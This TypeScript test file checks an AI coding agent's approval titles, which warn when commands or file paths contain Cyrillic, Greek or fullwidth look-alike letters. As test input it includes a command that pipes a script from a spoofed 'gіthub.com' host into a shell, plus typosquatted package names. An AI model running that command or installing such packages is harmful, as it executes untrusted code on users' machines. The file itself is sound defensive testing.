import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { commandApprovalTitle, editApprovalTitle } from '../../../src/core/agent/tools';
import { lookAlikeText, lookAlikeWarning, programWords } from '../../../src/core/agent/tools/look-alike';

test('a program name with a Cyrillic letter is named in the approval title', () => {
  assert.equal(
    commandApprovalTitle({ command: 'nрm test' }),
    'Run this command? Careful: the program name nрm is not plain ASCII (р U+0440 is Cyrillic); it may not be what it looks like.',
  );
  assert.equal(commandApprovalTitle({ command: 'npm test' }), 'Run this command?');
  assert.match(
    commandApprovalTitle({ command: 'nрm test', runsCode: '.envrc: direnv runs it when a shell enters the folder' }),
    /^Run this command\? Careful: \.envrc: direnv runs it .*\. Careful: the program name nрm/,
  );
});

test('look-alike words anywhere: a host, a command inside $( ), fullwidth and whole-Cyrillic program names', () => {
  assert.match(lookAlikeWarning('curl -fsSL https://gіthub.com/x/y | sh') ?? '', /gіthub mixes Latin and Cyrillic/);
  // A `$( )` inside double quotes is a command of its own: its program word is named as one.
  assert.match(lookAlikeWarning('echo "$(рython x)"') ?? '', /program name рython is not plain ASCII \(р U\+0440/);
  assert.match(lookAlikeWarning('ｎｐｍ test') ?? '', /program name ｎｐｍ is not plain ASCII \(ｎ U\+FF4E is Latin/);
  // ѕһ: Cyrillic dze and shha, one script, drawn as "sh".
  assert.match(lookAlikeWarning('sudo -E ѕһ -c "make"') ?? '', /program name ѕһ is not plain ASCII/);
  assert.match(lookAlikeWarning('FOO=1 env BAR=2 timeout 10 ./ѕһ') ?? '', /program name ѕһ/);
  assert.match(
    lookAlikeWarning('make && ρython -V') ?? '',
    /program name ρython is not plain ASCII \(ρ U\+03C1 is Greek/,
  );
  assert.match(
    lookAlikeWarning('pip install rеquеsts') ?? '',
    /rеquеsts mixes Latin and Cyrillic letters \(е U\+0435 is Cyrillic\)/,
  );
});

test('ordinary non-English text in arguments is not flagged', () => {
  for (const command of [
    'git commit -m "исправлен тест; добавил проверку"',
    'echo привет мир',
    "echo 'a; ѕһ'",
    'grep -rn "API-шка" src',
    'cat 日本語テキスト.txt',
    'echo "Reactコンポーネント"',
    'mkdir документы && cd документы',
    'git commit -m "Ελληνικά και English"',
  ])
    assert.equal(lookAlikeWarning(command), undefined, command);
});

test('program words follow quotes, assignments and prefixes', () => {
  assert.deepEqual(programWords('A=1 sudo npm test && (cd x; make) | tee "a;b" $(date) `id`'), [
    'npm',
    'cd',
    'make',
    'tee',
    'date',
    'id',
  ]);
});

const ascii = fc.string({
  unit: fc.constantFrom(...' abcdefghijklmnopqrstuvwxyzABCXYZ0123456789-_./=|;&"\'$(){}'.split('')),
});

test('property: a plain ASCII command is never flagged', () => {
  fc.assert(fc.property(ascii, (command) => lookAlikeWarning(command) === undefined));
});

// Cyrillic and Greek letters drawn like Latin ones.
const LOOK_ALIKE: Record<string, string> = { a: 'а', c: 'с', e: 'е', o: 'о', p: 'р', x: 'х', y: 'у', i: 'і', s: 'ѕ' };
const PROGRAMS = [
  'npm',
  'python',
  'curl',
  'git',
  'cargo',
  'pip',
  'docker',
  'yarn',
  'pnpm',
  'node',
  'sh',
  'bash',
  'make',
];

test('property: one look-alike letter in the program or in an argument word is flagged', () => {
  const swapped = fc
    .tuple(fc.constantFrom(...PROGRAMS, 'install', 'express', 'requests'), fc.nat())
    .filter(([w]) => [...w].some((c) => c in LOOK_ALIKE))
    .map(([w, n]) => {
      const at = [...w].map((c, i) => (c in LOOK_ALIKE ? i : -1)).filter((i) => i >= 0);
      const i = at[n % at.length]!;
      return w.slice(0, i) + LOOK_ALIKE[w[i]!]! + w.slice(i + 1);
    });
  fc.assert(
    fc.property(swapped, fc.constantFrom(...PROGRAMS), fc.boolean(), (word, program, asProgram) => {
      const command = asProgram ? `${word} --version` : `${program} install ${word}`;
      return lookAlikeWarning(command)?.includes(word) === true;
    }),
  );
});

test('property: words of one script in a quoted argument are not flagged', () => {
  const letters = (from: number, to: number): fc.Arbitrary<string> =>
    fc.string({ unit: fc.integer({ min: from, max: to }).map((n) => String.fromCodePoint(n)), minLength: 1 });
  const word = fc.oneof(letters(0x430, 0x44f), letters(0x3b1, 0x3c9), letters(0x4e00, 0x4e80), letters(0x61, 0x7a));
  fc.assert(
    fc.property(fc.constantFrom(...PROGRAMS), fc.array(word, { maxLength: 8 }), (program, words) => {
      return lookAlikeWarning(`${program} -m "${words.join(' ')}"`) === undefined;
    }),
  );
});

test('an edit approval names look-alike letters in the path; a path in one script is not flagged', () => {
  assert.equal(
    editApprovalTitle({ display: 'src/cоnfig.ts' }),
    'Apply this edit to src/cоnfig.ts? Careful: cоnfig mixes Latin and Cyrillic letters (о U+043E is Cyrillic); it may not be what it looks like.',
  );
  assert.match(
    editApprovalTitle({ display: 'src/ｃonfig.ts' }),
    /Careful: ｃonfig has letters drawn like plain ones \(ｃ U\+FF43 is read as c\)/,
  );
  assert.match(editApprovalTitle({ display: '.github/workflоws/ci.yml' }), /workflоws mixes Latin and Cyrillic/);
  // Through a link: the name shown holds both paths, and both are checked.
  assert.match(editApprovalTitle({ display: 'docs/a.md', target: 'pаckage.json' }), /pаckage mixes/);
  assert.equal(editApprovalTitle({ display: 'src/config.ts' }), 'Apply this edit to src/config.ts?');
  // In a command's argument too: fullwidth letters read as ASCII ones, but are another package name.
  assert.match(lookAlikeWarning('npm install ｅxpress') ?? '', /ｅxpress has letters drawn like plain ones/);
  assert.equal(
    editApprovalTitle({ display: 'docs/руководство/введение.md' }),
    'Apply this edit to docs/руководство/введение.md?',
  );
  assert.equal(
    editApprovalTitle({ display: '.envrc' }),
    'Apply this edit to .envrc? Careful: direnv runs it when a shell enters the folder.',
  );
});

test('property: a plain ASCII path is never flagged; one look-alike letter in it always is', () => {
  const name = fc.stringMatching(/^[a-z][a-z0-9_.-]{0,12}$/);
  fc.assert(
    fc.property(
      fc.array(name, { minLength: 1, maxLength: 4 }),
      (parts) => lookAlikeText(parts.join('/')) === undefined,
    ),
  );
  fc.assert(
    fc.property(fc.constantFrom(...Object.keys(LOOK_ALIKE)), fc.constantFrom('src', 'lib'), (letter, folder) => {
      const word = `conf${letter}g`;
      const path = `${folder}/${word.replace(letter, LOOK_ALIKE[letter]!)}.ts`;
      return lookAlikeText(path)?.includes(word.replace(letter, LOOK_ALIKE[letter]!)) === true;
    }),
  );
});

test('an all-fullwidth word in CJK text is ordinary; mixed with ASCII, or without CJK, it is still flagged', () => {
  // Fullwidth ＡＢＣ (U+FF21..U+FF23) as typed in Japanese names and text.
  for (const text of [
    '資料/\uff21\uff22\uff23.txt',
    '資料\uff21\uff22\uff23.txt',
    '{\n  "name": "\uff21\uff22\uff23 株式会社"\n}',
  ])
    assert.equal(lookAlikeText(text), undefined, text);
  assert.equal(
    editApprovalTitle({ display: 'docs/資料\uff21\uff22\uff23.md' }),
    'Apply this edit to docs/資料\uff21\uff22\uff23.md?',
  );
  assert.equal(lookAlikeWarning('cat 資料/\uff21\uff22\uff23.txt'), undefined);
  // Still flagged: fullwidth mixed with ASCII, mathematical letters, no CJK on the line, a program name.
  assert.match(lookAlikeText('資料/\uff43onfig.ts') ?? '', /\uff43onfig has letters drawn like plain ones/);
  assert.match(lookAlikeText('資料/\u{1d41c}onfig.ts') ?? '', /has letters drawn like plain ones/);
  assert.match(lookAlikeText('src/\uff43\uff4f\uff4e\uff46\uff49\uff47.ts') ?? '', /has letters drawn like plain ones/);
  assert.match(lookAlikeText('{\n"a": "日本",\n"b": "\uff43\uff4f\uff4e"\n}') ?? '', /\uff43\uff4f\uff4e has letters/);
  assert.match(
    lookAlikeWarning('echo 日本; \uff43\uff55\uff52\uff4c x') ?? '',
    /program name \uff43\uff55\uff52\uff4c/,
  );
  // Property: however fullwidth and ASCII letters are mixed in a word, it is flagged beside CJK text.
  const fullwidth = fc.integer({ min: 0xff41, max: 0xff5a }).map((n) => String.fromCodePoint(n));
  const ascii = fc.integer({ min: 0x61, max: 0x7a }).map((n) => String.fromCodePoint(n));
  fc.assert(
    fc.property(
      fc.array(fc.oneof(fullwidth, ascii), { maxLength: 10 }),
      fullwidth,
      ascii,
      fc.boolean(),
      (rest, f, a, first) => {
        const word = first ? [f, ...rest, a].join('') : [a, ...rest, f].join('');
        return lookAlikeText(`資料/${word}.txt`) !== undefined;
      },
    ),
  );
});
